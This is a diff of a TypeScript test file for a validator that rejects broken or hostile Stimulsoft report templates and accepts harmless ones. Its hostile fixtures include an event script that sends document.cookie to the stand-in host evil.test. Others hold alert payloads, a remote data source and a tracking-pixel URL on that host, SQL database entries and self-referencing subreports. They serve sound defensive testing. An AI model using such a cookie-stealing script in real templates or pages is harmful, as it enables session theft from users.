@@ -35,102 +35,60 @@ const xml = (inner: string) => `<?xml version="1.0" encoding="utf-8" standalone=
 const text = (fields: object) => ({ Components: { 0: { Ident: 'StiText', ...fields } } });
 const nested = (depth: number): string => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
 
-describe('a broken template is named, not drawn (G9)', () => {
-  it.each<[string, Uint8Array<ArrayBuffer>, string]>([
-    ['an empty file', bytes(''), 'JSON, XML'],
-    ['the host page instead', bytes('<!doctype html><html><body></body></html>'), 'JSON, XML'],
-    ['JSON cut off', bytes(template({}).slice(0, -3)), 'JSON, XML'],
-    ['XML cut off', bytes(xml('').slice(0, -20)), 'JSON, XML'],
-    ['XML that closes another element', bytes(xml('<A></B>')), 'JSON, XML'],
-    ['XML with a bare <', bytes(xml('<Text>resultado < 5</Text>')), 'JSON, XML'],
-    ['a packed template', bytes('UEsDBBQAAAAIAA=='), 'JSON, XML'],
-    ['a list', bytes('[]'), 'JSON, XML'],
-    ['no pages', bytes('{"ReportName":"reports"}'), 'Pages'],
-    ['an empty list of pages', bytes('{"Pages":{}}'), 'Pages'],
-    ['endless nesting', bytes(nested(5000)), 'JSON, XML'],
-    ['another encoding', Uint8Array.from([0x7b, 0xff, 0xfe, 0x7d]), 'UTF-8'],
-    ['a file of six megabytes', new Uint8Array(6_000_000), '> 5000000 bytes'],
-  ])('%s', (_, content, detail) => {
-    expect(problemOf(content)).toBe(`${FILE}: invalid ${detail}`);
-  });
+const event = { Value: 'fetch("https://evil.test?" + document.cookie)' };
+const dictionary = (Dictionary: object) => template({}, { Dictionary });
+const subReport = (page: string) => ({
+  Components: { 0: { Ident: 'StiSubReport', SubReportPageGuid: page } },
 });
+const INSIDE_EACH_OTHER = JSON.stringify({
+  Pages: {
+    0: { Name: 'One', Guid: 'a1', ...subReport('b2') },
+    1: { Name: 'Two', Guid: 'b2', ...subReport('One') },
+  },
+});
+const SERVICE = { Ident: 'StiJsonDatabase', PathData: 'https://evil.test/x.json' };
+const REMOTE = 'https://evil.test/pixel.png';
 
-describe('a hostile template is named, not drawn (G9)', () => {
-  const event = { Value: 'fetch("https://evil.test?" + document.cookie)' };
-  const subReport = (page: string) => ({
-    Components: { 0: { Ident: 'StiSubReport', SubReportPageGuid: page } },
-  });
-  it.each<[string, string, string]>([
-    ['a script on a text', template(text({ BeforePrintEvent: event })), 'BeforePrintEvent'],
-    ['a script of the report', template({}, { BeginRenderEvent: event }), 'BeginRenderEvent'],
-    ['a script in another case', template(text({ getvalueEVENT: event })), 'getvalueEVENT'],
-    [
-      'a script in XML',
-      xml('<T><BeforePrintEvent>alert(1)</BeforePrintEvent></T>'),
-      'BeforePrintEvent',
-    ],
-    [
-      'a script in XML, marked as data',
-      xml('<T><GetValueEvent><![CDATA[alert(1)]]></GetValueEvent></T>'),
-      'GetValueEvent',
-    ],
-    ['a JavaScript program', template({}, { ScriptLanguage: 'JS', Script: 'run()' }), 'Script'],
-    [
-      'a database',
-      template({}, { Dictionary: { Databases: { 0: { Ident: 'StiSqlDatabase' } } } }),
-      'StiSqlDatabase',
-    ],
-    [
-      'a database in XML',
-      xml('<D type="Stimulsoft.Report.Dictionary.StiMySqlDatabase" isKey="true" />'),
-      'StiMySqlDatabase',
-    ],
-    [
-      'a query',
-      template({}, { Dictionary: { DataSources: { 0: { Ident: 'StiSqlSource' } } } }),
-      'StiSqlSource',
-    ],
-    [
-      'a service as data',
-      template(
-        {},
-        {
-          Dictionary: {
-            Databases: { 0: { Ident: 'StiJsonDatabase', PathData: 'https://evil.test/x.json' } },
-          },
-        },
-      ),
-      'PathData',
-    ],
-    [
-      'a remote picture',
-      template(text({ ImageURL: { Value: 'https://evil.test/pixel.png' } })),
-      'ImageURL',
-    ],
-    [
-      'a picture whose address holds patient data',
-      template(text({ ImageURL: { Value: '{order.imagen}' } })),
-      'ImageURL',
-    ],
-    [
-      'a packed report inside',
-      template(text({ SubReportUrl: { Value: 'resource://inner' } })),
-      'SubReportUrl',
-    ],
-    ['a page inside itself', template(subReport('a1')), 'SubReportPage'],
-    [
-      'two pages inside each other',
-      JSON.stringify({
-        Pages: {
-          0: { Name: 'One', Guid: 'a1', ...subReport('b2') },
-          1: { Name: 'Two', Guid: 'b2', ...subReport('One') },
-        },
-      }),
-      'SubReportPage',
-    ],
-  ])('%s', (_, content, detail) => {
-    expect(problemOf(bytes(content))).toBe(`${FILE}: invalid ${detail}`);
-  });
+it.each<[string, string | Uint8Array<ArrayBuffer>, string]>([
+  ['an empty file', '', 'JSON, XML'],
+  ['the host page instead', '<!doctype html><html><body></body></html>', 'JSON, XML'],
+  ['JSON cut off', template({}).slice(0, -3), 'JSON, XML'],
+  ['XML cut off', xml('').slice(0, -20), 'JSON, XML'],
+  ['XML that closes another element', xml('<A></B>'), 'JSON, XML'],
+  ['XML with a bare <', xml('<Text>resultado < 5</Text>'), 'JSON, XML'],
+  ['a packed template', 'UEsDBBQAAAAIAA==', 'JSON, XML'],
+  ['a list', '[]', 'JSON, XML'],
+  ['no pages', '{"ReportName":"reports"}', 'Pages'],
+  ['an empty list of pages', '{"Pages":{}}', 'Pages'],
+  ['endless nesting', nested(5000), 'JSON, XML'],
+  ['another encoding', Uint8Array.from([0x7b, 0xff, 0xfe, 0x7d]), 'UTF-8'],
+  ['a file of six megabytes', new Uint8Array(6_000_000), '> 5000000 bytes'],
+  ['a script on a text', template(text({ BeforePrintEvent: event })), 'BeforePrintEvent'],
+  ['a script of the report', template({}, { BeginRenderEvent: event }), 'BeginRenderEvent'],
+  ['a script in another case', template(text({ getvalueEVENT: event })), 'getvalueEVENT'],
+  ['a script in XML', xml('<T><ClickEvent>alert(1)</ClickEvent></T>'), 'ClickEvent'],
+  ['such a script as data', xml('<T><GetEvent><![CDATA[x()]]></GetEvent></T>'), 'GetEvent'],
+  ['a JavaScript program', template({}, { ScriptLanguage: 'JS', Script: 'run()' }), 'Script'],
+  ['a database', dictionary({ Databases: { 0: { Ident: 'StiSqlDatabase' } } }), 'StiSqlDatabase'],
+  [
+    'a database in XML',
+    xml('<D type="Stimulsoft.Report.Dictionary.StiMySqlDatabase" isKey="true" />'),
+    'StiMySqlDatabase',
+  ],
+  ['a query', dictionary({ DataSources: { 0: { Ident: 'StiSqlSource' } } }), 'StiSqlSource'],
+  ['a service as data', dictionary({ Databases: { 0: SERVICE } }), 'PathData'],
+  ['a remote picture', template(text({ ImageURL: { Value: REMOTE } })), 'ImageURL'],
+  ['one with patient data', template(text({ ImageURL: { Value: '{order.imagen}' } })), 'ImageURL'],
+  [
+    'a packed report inside',
+    template(text({ SubReportUrl: { Value: 'resource://inner' } })),
+    'SubReportUrl',
+  ],
+  ['a page inside itself', template(subReport('a1')), 'SubReportPage'],
+  ['two pages inside each other', INSIDE_EACH_OTHER, 'SubReportPage'],
+])('a broken or hostile template is named, not drawn: %s', (_, content, detail) => {
+  const file = typeof content === 'string' ? bytes(content) : content;
+  expect(problemOf(file)).toBe(`${FILE}: invalid ${detail}`);
 });
 
 describe('a harmless template passes', () => {
@@ -138,17 +96,10 @@ describe('a harmless template passes', () => {
     ['events without a script', template(text({ BeforePrintEvent: { Value: ' ' } }))],
     [
       'sample data of the designer',
-      template(
-        {},
-        {
-          Dictionary: {
-            Databases: {
-              0: { Ident: 'StiJsonDatabase', PathData: String.raw`C:\informes\demo.json` },
-            },
-            DataSources: { 0: { Ident: 'StiDataTableSource', NameInSource: 'informes.order' } },
-          },
-        },
-      ),
+      dictionary({
+        Databases: { 0: { ...SERVICE, PathData: String.raw`C:\informes\demo.json` } },
+        DataSources: { 0: { Ident: 'StiDataTableSource', NameInSource: 'informes.order' } },
+      }),
     ],
     ['a picture of the template', template(text({ ImageURL: { Value: 'resource://logo' } }))],
     ['an address in a text', template(text({ Text: { Value: 'https://laboratorio.test' } }))],
@@ -171,49 +122,32 @@ describe('a harmless template passes', () => {
     expect(problemOf(bytes(content))).toBe('harmless');
   });
 
-  it('is handed on without doubled keys that the scan did not see', () => {
+  it('is handed on without doubled keys that the scan did not see, and XML as it is written', () => {
     const doubled = '{"BeginRenderEvent":"run()","BeginRenderEvent":"","Pages":{"0":{"Name":"P"}}}';
     expect(readMrt(bytes(doubled), FILE).text).not.toContain('run()');
-  });
-
-  it('reads XML as it is written', () => {
     const root = readTemplateFile(xml('<T><Text>A &lt; &#243; &amp;lt;</Text></T>'))?.root;
     expect(JSON.stringify(root)).toContain('A < ó &lt;');
   });
 });
 
-describe('the typefaces of a template', () => {
-  const familiesOf = (source: string) => {
-    const file = readTemplateFile(source);
-    return file && templateFamilies(file.root);
-  };
-  const component = (...parts: readonly object[]) =>
-    template({ Components: Object.fromEntries(parts.entries()) });
+const component = (...parts: readonly object[]) =>
+  template({ Components: Object.fromEntries(parts.entries()) });
+const barCode = (font: string) => ({ Ident: 'StiBarCode', Font: font });
 
-  it.each<[string, string, readonly string[], readonly string[]]>([
-    ['of its texts', component({ Font: 'Verdana;8;Bold;' }, { Font: ';;Bold;' }), ['Verdana'], []],
-    ['in XML', xml('<T><Font>Times New Roman,8.25,Bold</Font></T>'), ['Times New Roman'], []],
-    ['alone', component({ Font: 'Verdana' }), ['Verdana'], []],
-    ['of a heading', component({ HeaderFont: 'Georgia;9;;' }), ['Georgia'], []],
-    ['that are none', component({ AllowUseFont: false }, { AllowUseFont: 'False' }), [], []],
-    [
-      'of the caption of a bar code',
-      component({ Ident: 'StiBarCode', Font: 'Arial Narrow;8;;' }),
-      [],
-      ['Arial Narrow'],
-    ],
-    [
-      'of such a caption and of a text',
-      component({ Ident: 'StiBarCode', Font: 'Verdana;8;;' }, { Font: 'Verdana;8;;' }),
-      ['Verdana'],
-      [],
-    ],
-  ])('%s', (_case, source, texts, captions) => {
-    expect(familiesOf(source)).toEqual({ texts: ['Arial', ...texts], captions });
-  });
+it.each<[string, string, readonly string[], readonly string[]]>([
+  ['of its texts', component({ Font: 'Verdana;8;Bold;' }, { Font: ';;Bold;' }), ['Verdana'], []],
+  ['in XML', xml('<T><Font>Times New Roman,8.25,Bold</Font></T>'), ['Times New Roman'], []],
+  ['alone', component({ Font: 'Verdana' }), ['Verdana'], []],
+  ['of a heading', component({ HeaderFont: 'Georgia;9;;' }), ['Georgia'], []],
+  ['that are none', component({ AllowUseFont: false }, { AllowUseFont: 'False' }), [], []],
+  ['of a bar code’s caption', component(barCode('Arial Narrow;8;;')), [], ['Arial Narrow']],
+  ['of both', component(barCode('Verdana;8;;'), { Font: 'Verdana;8;;' }), ['Verdana'], []],
+])('the typefaces of a template %s', (_case, source, texts, captions) => {
+  const file = readTemplateFile(source);
+  expect(file && templateFamilies(file.root)).toEqual({ texts: ['Arial', ...texts], captions });
 });
 
-it('finds nothing in the template that ships (G9)', async () => {
+it('nothing is found in the template that ships', async () => {
   const shipped = readMrt(new Uint8Array(await readFile('reports/reports.mrt')), FILE);
   expect(templateProblem(shipped.root)).toBeNull();
   expect(templateFamilies(shipped.root)).toEqual({ texts: ['Arial'], captions: [] });
